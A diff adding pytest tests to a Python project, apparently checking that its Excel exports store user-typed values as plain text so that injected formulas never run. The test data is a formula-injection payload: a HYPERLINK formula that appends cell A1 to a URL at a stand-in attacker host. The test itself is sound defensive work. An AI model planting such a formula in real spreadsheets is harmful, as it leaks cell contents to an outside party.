@@ -282,3 +282,27 @@ def test_write_table_refuses_an_unknown_format(tmp_path: Path) -> None:
         _tables.write_table(tmp_path / "t.txt", ["a"], [])
     with pytest.raises(InputError, match=r"t\.ods: expected a \.csv or \.xlsx file"):
         list(_tables.table_rows(tmp_path / "t.ods"))
+
+
+_FORMULA = '=HYPERLINK("http://attacker.invalid/?x="&A1,"Xem / Open")'
+
+
+def test_a_typed_formula_stays_text_in_every_written_workbook(tmp_path: Path) -> None:
+    register = _register(tmp_path / "x")
+    register.add("person", {"name": _FORMULA, "signatory": "yes", "card_expiry": ""})
+    out = tmp_path / "people.xlsx"
+    assert register.export_file("person", out) == 1
+    cell = openpyxl.load_workbook(out)["person"]["A2"]
+    assert (cell.value, cell.data_type) == (_FORMULA, "s")  # text, never run as a formula
+    assert [row[2][0] for row in _tables.table_rows(out)][1] == _FORMULA  # and reads back as typed
+
+
+def test_a_typed_place_stays_text_in_the_hub_inspection_workbook(tmp_path: Path) -> None:
+    from certissuer.hub.inspection_report import InspectionReport, Tally, write_xlsx
+
+    report = InspectionReport(
+        year=2026, rounds=1, checks=1, violations=0, by_place=[Tally(_FORMULA, 1, 0)]
+    )
+    write_xlsx(report, tmp_path / "i.xlsx")
+    cell = openpyxl.load_workbook(tmp_path / "i.xlsx")["Dia diem"]["A2"]
+    assert (cell.value, cell.data_type) == (_FORMULA, "s")
